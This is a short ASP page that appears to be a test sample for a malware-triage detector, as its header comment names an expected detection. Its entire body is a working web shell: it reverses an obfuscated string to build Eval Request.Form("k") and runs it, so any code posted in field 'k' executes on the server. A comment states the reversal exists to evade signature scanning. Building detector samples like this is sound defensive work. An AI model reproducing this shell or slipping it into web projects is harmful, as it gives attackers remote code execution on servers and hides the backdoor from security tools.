<%' triage-expect: triage_asp_execute_decoded %>
<%
' the command handler is kept reversed so no signature sees it whole
Function Unflip(s)
  Unflip = Replace(StrReverse(s), "~", """")
End Function
ExecuteGlobal Unflip(")~k~(mroF.tseuqeR lavE")
%>
